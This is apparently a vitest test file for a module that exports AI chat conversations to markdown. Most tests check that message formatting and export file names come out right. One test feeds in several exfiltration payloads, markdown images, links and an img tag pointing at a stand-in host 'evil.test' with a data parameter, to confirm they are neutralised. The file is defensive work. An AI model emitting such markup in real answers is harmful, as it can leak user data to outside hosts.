import { Marked } from "marked";
import { expect, it } from "vitest";
import { exportName, toMarkdown } from "./markdown.ts";
import type { Message } from "./schema.ts";

const conversation = { id: "1", title: "Windmills", updatedAt: "2026-11-23T10:00:00.000Z" };

function shown(content: string): string {
  const message: Message = {
    ...{ id: "2", type: "assistant", content, createdAt: "2026-11-23T10:00:00.000Z", state: "complete" },
  };
  return new Marked().parse(toMarkdown(conversation, [message]), { async: false });
}

it.each([
  "![x](https://evil.test/c?d=4250)",
  "[the rules](https://evil.test/c?d=4250)",
  "![x][y]\n\n[y]: https://evil.test/c?d=4250",
  "[the rules][y]\n\n[y]: https://evil.test/c?d=4250",
  '<img src="https://evil.test/c?d=4250">',
  "<https://evil.test/c?d=4250>",
  "- [x\n](https://evil.test/c)",
])("writes no image, link or HTML of a model: %s", (content) => {
  expect(shown(content)).not.toMatch(/<(?:img|script)|href="[^"]*\?d=|href="https:\/\/evil\.test\/c"/i);
  expect(shown(content)).toContain("evil.test");
});

it("keeps the answer's own marks", () => {
  const html = shown("## Why\n26 USC 3, Levy: “imposed” [1] (26 USC 3)\n- **ten** in a < b");
  expect(html).toContain("<h4>Why</h4>");
  expect(html).toContain("“imposed” [1] (26 USC 3)");
  expect(html).toContain("<strong>ten</strong> in a &lt; b");
});

it("gives two files of one day and title two names", () => {
  const names = ["71", "72"].map((id) =>
    exportName({ ...conversation, id, title: "Is the levy on mills ½ due?  Älter" }),
  );
  expect(names).toEqual([
    "conversation-2026-11-23-is-the-levy-on-mills-1-2-due-a-lter-71.md",
    "conversation-2026-11-23-is-the-levy-on-mills-1-2-due-a-lter-72.md",
  ]);
});
